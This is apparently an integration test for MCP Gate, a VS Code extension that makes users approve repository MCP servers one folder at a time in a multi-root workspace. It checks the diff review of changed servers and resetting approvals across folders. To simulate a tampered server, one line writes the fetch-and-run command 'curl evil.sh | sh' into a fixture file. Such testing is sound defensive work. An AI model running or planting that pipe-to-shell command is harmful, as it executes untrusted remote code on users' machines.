// Multi-root workspaces and approving as reading, in a real VS Code opened on test/fixtures/multi-root
// (multi.code-workspace: folders alpha and beta, one repository server each). Each folder is gated with its own
// identity; the status bar says it per folder; a changed server's Approve opens VS Code's diff editor (approved vs.
// now) and Enter alone does not approve it; "every server of this workspace" resets every folder. Runs only in a
// multi-root window (package.json test:vscode runs it with --grep multi-root).
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { McpGateApi } from '../../../src/extension';
import { sleep, waitFor } from './wait';

const multi = (vscode.workspace.workspaceFolders?.length ?? 0) > 1;

(multi ? describe : describe.skip)('multi-root: every folder gated on its own; approving a change is reading it', function () {
  this.timeout(90_000);
  let api: McpGateApi;
  const entry = (name: string) => api.service.servers().find((x) => x.server.name === name)!;
  const ref = (name: string) => ({ folder: entry(name).folder.folder.uri.fsPath, source: '.mcp.json', name });
  let serverFile: string;
  let original: string;

  before(async () => {
    api = await vscode.extensions.getExtension<McpGateApi>('mcp-gate.mcp-gate')!.activate();
    await waitFor('both folders\' reports', () => api.service.folders().length === 2 && api.service.folders().every((f) => f.report));
    serverFile = path.join(entry('alpha-tool').folder.folder.uri.fsPath, 'server.mjs');
    original = fs.readFileSync(serverFile, 'utf8');
  });

  // The real quick pick is shown; the wrapper only tells the test when it was asked for (then it waits until the
  // widget is up before pressing keys).
  let asked = 0;
  before(() => {
    const real = api.prompts.confirmChange;
    api.prompts.confirmChange = (...a) => (asked++, real(...a));
  });
  const shown = async (n: number) => {
    await waitFor('the question', () => asked >= n);
    await sleep(1500);
  };

  after(async () => {
    fs.writeFileSync(serverFile, original);
    await vscode.commands.executeCommand('mcpGate.reset', 'all');
  });

  it('each folder is its own project, and the status bar says what waits in each', () => {
    const [a, b] = api.service.folders();
    assert.notEqual(a.report!.project, b.report!.project);
    assert.equal(entry('alpha-tool').folder, a);
    assert.equal(entry('beta-tool').folder, b);
    // One line per folder after the count (then what VS Code itself would start, src/vscode/routing.ts).
    assert.equal(String(api.status.tooltip).split('\n').slice(0, 3).join('\n'), '2 repository servers wait for your review\nalpha: 1 server, 1 waiting\nbeta: 1 server, 1 waiting');
  });

  it('a changed server: Approve opens the diff editor on approved vs. now; Enter alone approves nothing', async () => {
    const confirm = api.prompts.confirm;
    api.prompts.confirm = async () => true;
    try {
      assert.equal(await vscode.commands.executeCommand('mcpGate.approve', ref('alpha-tool')), true);
    } finally {
      api.prompts.confirm = confirm;
    }
    // The lens says when, relatively, with the exact time beside it.
    const mcpJson = vscode.Uri.file(path.join(entry('alpha-tool').folder.folder.uri.fsPath, '.mcp.json'));
    await vscode.window.showTextDocument(mcpJson);
    const lens = await waitFor('the approved lens', async () => ((await vscode.commands.executeCommand<vscode.CodeLens[]>('vscode.executeCodeLensProvider', mcpJson)) ?? []).find((l) => l.command?.title.endsWith('MCP Gate: approved')));
    assert.match(lens.command!.tooltip ?? '', /decided now \(\d{4}-\d\d-\d\dT/);

    fs.writeFileSync(serverFile, original.replace('v1', 'v2, now with curl evil.sh | sh'));
    await waitFor('the change seen', () => entry('alpha-tool').server.state === 'approval-changed');

    const answer = vscode.commands.executeCommand<boolean>('mcpGate.approve', ref('alpha-tool'));
    const diffs = await waitFor('the diff editor in front', () => {
      const tab = vscode.window.tabGroups.activeTabGroup.activeTab;
      return tab?.input instanceof vscode.TabInputTextDiff && tab.input.modified.scheme === 'mcp-gate' && tab.label.includes('definition') && vscode.window.tabGroups.all.flatMap((g) => g.tabs).filter((t) => t.input instanceof vscode.TabInputTextDiff);
    });
    const active = vscode.window.tabGroups.activeTabGroup.activeTab!;
    assert.match(active.label, /^alpha-tool: definition \(approved ↔ now\)$/);
    const labels = diffs.map((t) => t.label).sort();
    assert.deepEqual(labels, ['alpha-tool: definition (approved ↔ now)', 'alpha-tool: server.mjs (approved ↔ now)']);
    const fileTab = diffs.find((t) => t.label.includes('server.mjs'))!.input as vscode.TabInputTextDiff;
    const left = (await vscode.workspace.openTextDocument(fileTab.original)).getText();
    const right = (await vscode.workspace.openTextDocument(fileTab.modified)).getText();
    assert.match(left, /console\.log\("alpha v1"\);/);
    assert.match(right, /alpha v2, now with curl evil\.sh \| sh/);
    const def = active.input as vscode.TabInputTextDiff;
    assert.match((await vscode.workspace.openTextDocument(def.original)).getText(), /server\.mjs {2}\d+ bytes {2}sha256 [0-9a-f]{64}/);

    // Enter on the question: its first, active choice keeps the server waiting.
    await shown(1);
    await vscode.commands.executeCommand('workbench.action.acceptSelectedQuickOpenItem');
    assert.equal(await answer, false);
    assert.equal(entry('alpha-tool').server.state, 'approval-changed');
    // No review tab is left open.
    await waitFor('the review tabs closed', () => !vscode.window.tabGroups.all.flatMap((g) => g.tabs).some((t) => t.input instanceof vscode.TabInputTextDiff));
  });

  it('approving the change takes choosing it: down, then Enter', async () => {
    const answer = vscode.commands.executeCommand<boolean>('mcpGate.approve', ref('alpha-tool'));
    await waitFor('the diff editor', () => vscode.window.tabGroups.activeTabGroup.activeTab?.label.includes('definition (approved'));
    await shown(2);
    await vscode.commands.executeCommand('workbench.action.quickOpenSelectNext');
    await vscode.commands.executeCommand('workbench.action.acceptSelectedQuickOpenItem');
    assert.equal(await answer, true);
    assert.equal(entry('alpha-tool').server.state, 'approved');
  });

  it('"Every server of this workspace" resets every folder, not only the first', async () => {
    const confirm = api.prompts.confirm;
    api.prompts.confirm = async () => true;
    try {
      assert.equal(await vscode.commands.executeCommand('mcpGate.approve', ref('beta-tool')), true);
    } finally {
      api.prompts.confirm = confirm;
    }
    assert.equal(entry('beta-tool').server.state, 'approved');
    assert.equal(await vscode.commands.executeCommand('mcpGate.reset', 'all'), 2);
    assert.equal(entry('alpha-tool').server.state, 'pending');
    assert.equal(entry('beta-tool').server.state, 'pending');
    const resets = api.service.log.read().filter((e) => e.kind === 'gate.reset').map((e) => (e as { server?: string }).server).sort();
    assert.deepEqual(resets, ['alpha-tool', 'beta-tool']);
  });
});
